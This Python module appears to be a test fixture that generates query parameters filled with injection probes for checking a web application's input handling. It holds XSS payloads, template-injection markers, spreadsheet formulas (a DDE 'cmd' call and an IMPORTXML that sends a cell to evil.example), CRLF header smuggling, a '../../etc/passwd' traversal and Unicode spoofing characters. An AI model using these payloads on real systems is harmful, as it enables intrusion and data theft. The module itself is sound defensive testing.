"""Texts that would act if anybody took them for more than text."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice

HOST = "evil.example"
MARKUP = (
    "<script>alert(1)</script>",
    f'<b style="background:url(//{HOST})">x</b>',
    f'<a href="javascript:alert(1)">{HOST}</a>',
    f"<img src=//{HOST}/x onerror=alert(1)>",
    f'"><svg onload=alert(1)><iframe src="//{HOST}">',
    f"'-alert(1)-'\"`{HOST}`",
    f"javascript:alert('{HOST}')",
    "{{7*7}}${7*7}#{7*7}%{value}",
)
FORMULAS = (
    "=cmd|'/c calc'!A0",
    f'=HYPERLINK("http://{HOST}","x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    f"=IMPORTXML(CONCAT(\"http://{HOST}/\",A1),\"//a\")",
)  # fmt: skip
# A right-to-left override shows a text backwards: gpj.exe for exe.jpg.
SIGNS = ("\u202egnp.elif", "a\u2066b\u2069", "\ufeffx", "e\u0301\u0301\u0301")
LINES = ("a\r\nSet-Cookie: x=1", "a\nb", "a\x00b", "../../etc/passwd", "%0d%0aSet-Cookie:%20x=1", "..%2f..%2fx")
ALL = (*MARKUP, *FORMULAS, *SIGNS, *LINES)
KEYS = (
    *("region", "direction", "from", "to", "format", "per", "measure", "theme", "lang", "inputs", "labels", "chart"),
    *("title", "note", "notes", "tables", "show", "progress", "sort", "filter", "event_id", "activity", "debug", "x"),
)


def queries(probes: tuple[str, ...] = ALL, times: int = 3) -> Iterator[dict[str, str]]:
    """Yield queries in which every key holds a probe, each time another one."""
    for first in range(times):
        yield dict(zip(KEYS, islice(cycle(probes), first * len(probes) // times, None), strict=False))
